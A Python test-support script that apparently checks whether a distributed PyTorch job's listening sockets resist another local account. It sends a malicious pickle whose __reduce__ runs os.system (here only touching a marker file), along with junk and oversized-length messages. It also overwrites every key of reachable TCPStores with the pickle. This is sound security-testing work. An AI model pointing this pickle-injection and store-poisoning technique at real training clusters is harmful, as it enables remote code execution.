"""Attacks listening sockets as another account: `python -m tests.support.socket_attacker <JSON>`.

The JSON has `endpoints`, pairs of address and port, and `marker`, a file that the attacker's code would write if a
process of the job ran it. Prints a JSON list of the endpoints that answered as a store of torch, with their keys.
"""

import base64
import contextlib
import encodings.idna  # noqa: F401 (looked up by sockets, after the account cannot read it any more)
import json
import os
import pickle
import socket
import struct
import sys
import time
from datetime import timedelta
from threading import Thread
from typing import Any

from torch._C._distributed_c10d import TCPStore

_NOBODY = 65534
_STORE_SECONDS = 6.0
_RENDEZVOUS = "torch.rendezvous."
_KNOWN_KEYS = (f"{_RENDEZVOUS}a1-1", "default_pg/0", "0", "worker/attempt_0/default_pg/0//0//cpu//0/0")


class _Payload:
    """Writes the marker when it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.marker}",))


def main(document: dict[str, Any]) -> list[dict[str, Any]]:
    os.setgroups([])
    os.setgid(_NOBODY)
    os.setuid(_NOBODY)
    payload = pickle.dumps(_Payload(document["marker"]))
    with contextlib.ExitStack() as idle:
        reached = [(address, port) for address, port in document["endpoints"] if _attack(address, port, payload, idle)]
        stores: list[dict[str, Any]] = []
        attacks = [Thread(target=_attack_store, args=(*endpoint, payload, stores), daemon=True) for endpoint in reached]
        for attack in attacks:
            attack.start()
        # torch's client waits without a limit for the answer of a server that is no store.
        deadline = time.monotonic() + _STORE_SECONDS
        for attack in attacks:
            attack.join(max(0.0, deadline - time.monotonic()))
        return list(stores)


def _attack(address: str, port: int, payload: bytes, idle: contextlib.ExitStack) -> bool:
    """Send everything but the requests of a store; return whether the socket can be reached."""
    try:
        for _ in range(20):
            idle.enter_context(socket.create_connection((address, port), timeout=2))
    except OSError:
        return False
    for message in _messages(payload):
        _send(address, port, message)
    return True


def _messages(payload: bytes) -> list[bytes]:
    http = b"POST /api/2.0/mlflow/runs/create HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(payload)
    # gloo's ranks begin a connection with its number.
    numbers = [struct.pack("<q", number) for number in range(20)]
    lengths = [struct.pack("<Q", 2**63), struct.pack(">I", 2**31), b"\xff" * 64, b"\0" * 64]
    return [b"", b"\n", os.urandom(4096), payload, http + payload, *numbers, *lengths, *(n + payload for n in numbers)]


def _send(address: str, port: int, message: bytes) -> None:
    with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=2) as connection:
        connection.sendall(message)
        connection.settimeout(0.02)
        connection.recv(1024)


def _attack_store(address: str, port: int, payload: bytes, stores: list[dict[str, Any]]) -> None:
    """Write pickles to all keys of a store, as torchrun's own rendezvous keeps them, and add it to `stores`."""
    with contextlib.suppress(Exception):
        limit = timedelta(seconds=_STORE_SECONDS / 2)
        store = TCPStore(address, port, is_master=False, timeout=limit, wait_for_workers=False)
        keys = store.list_keys()
        stores.append({"address": address, "port": port, "keys": keys})
        for key in {*keys, *_KNOWN_KEYS}:
            store.set(key, base64.b64encode(payload).decode())


if __name__ == "__main__":
    print(json.dumps(main(json.loads(sys.argv[1]))), flush=True)
    # Threads may still wait for an answer.
    os._exit(0)
